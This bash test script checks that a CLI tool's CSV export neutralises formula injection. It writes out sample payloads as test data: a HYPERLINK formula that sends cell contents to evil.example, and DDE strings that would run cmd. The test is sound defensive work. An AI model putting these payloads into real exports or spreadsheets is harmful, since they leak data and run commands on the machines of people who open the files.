#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# CSV formula injection: a cell that starts with =, +, -, @, TAB or CR (or
# with the quote that marks a neutralised cell) is written as "'" and the
# value, inside double quotes; a program recovers the value by dropping the
# first "'" of any cell that starts with one (docs/cli.md, export).
set -euo pipefail
source "${VL_SOURCE_DIR:?VL_SOURCE_DIR must name the source tree}/tests/cli/lib.sh"
vl_network

# MU-11..MU-17: one record per leading character, in the English name and in
# the comments; MU-18 a plain name. Proposed by the Secretariat, approved.
/usr/bin/python3 - "$DATA/MU-01.json" "$T/load.json" "$T/names.json" <<'PY'
import json, sys
base = json.load(open(sys.argv[1], encoding="utf-8"))
names = {
    "MU-11": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "MU-12": "+1+cmd|' /C calc'!A0",
    "MU-13": "-2+3",
    "MU-14": "@SUM(1+1)*cmd|' /C calc'!A0",
    "MU-15": "\t=1+1",
    "MU-16": "\r=1+1",
    "MU-17": "'=1+1 already quoted",
    "MU-18": "Plain authority, no formula",
}
recs = []
for rid, name in names.items():
    r = json.loads(json.dumps(base))
    r["id"] = rid
    r["name"] = {"en": name}
    r["comments"] = {"en": name}
    r["treaties"] = []
    recs.append(r)
json.dump(recs, open(sys.argv[2], "w", encoding="utf-8"))
json.dump(names, open(sys.argv[3], "w", encoding="utf-8"))
PY
id=$(propose_id --file "$T/load.json" --key "$T/sec1.key")
[ -n "$id" ] || fail "no proposal id"
approve_both "$id"

ok export --format csv --key "$T/node.key"
cp "$T/out" "$T/dir.csv"
/usr/bin/python3 - "$T/dir.csv" "$T/names.json" <<'PY' || fail "CSV cells are not neutralised"
import csv, json, sys
raw = open(sys.argv[1], encoding="utf-8", newline="").read()
names = json.load(open(sys.argv[2], encoding="utf-8"))
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
header = rows[0]
bad = []
# Every cell of every row: never starts with a formula character.
for n, row in enumerate(rows[1:], 2):
    assert len(row) == len(header), (n, row)
    for col, cell in zip(header, row):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            bad.append((n, col, cell))
assert not bad, bad
def value(cell):
    return cell[1:] if cell.startswith("'") else cell
by_id = {r[0]: dict(zip(header, r)) for r in rows[1:]}
for rid, name in names.items():
    r = by_id[rid]
    for col in ("name_en", "comments"):
        want_quote = name[:1] in ("=", "+", "-", "@", "\t", "\r", "'")
        assert r[col].startswith("'") == want_quote, (rid, col, r[col])
        assert value(r[col]) == name, (rid, col, r[col], name)
    # Phone numbers start with "+": neutralised, and recovered whole.
    assert r["phones"] == "'+230 5550 1111;+230 5550 1112", r["phones"]
    assert value(r["phones"]) == "+230 5550 1111;+230 5550 1112"
    assert r["id"] == rid and r["state"] == "MU"
# The neutralised cell is inside the quoted field.
assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in raw, raw
assert ',"\'-2+3",' in raw
assert ',Plain authority,' not in raw and ',"Plain authority, no formula",' in raw
print("cells ok")
PY

# The JSON export keeps the values as they are.
ok export --key "$T/node.key"
json_get '[r["name"]["en"] for r in d["records"] if r["id"] == "MU-11"][0]' <"$T/out" >"$T/n11"
grep -qxF '=HYPERLINK("http://evil.example/?"&A1,"Click")' "$T/n11" || fail "JSON export changed the value: $(cat "$T/n11")"
echo "t_csv: OK"
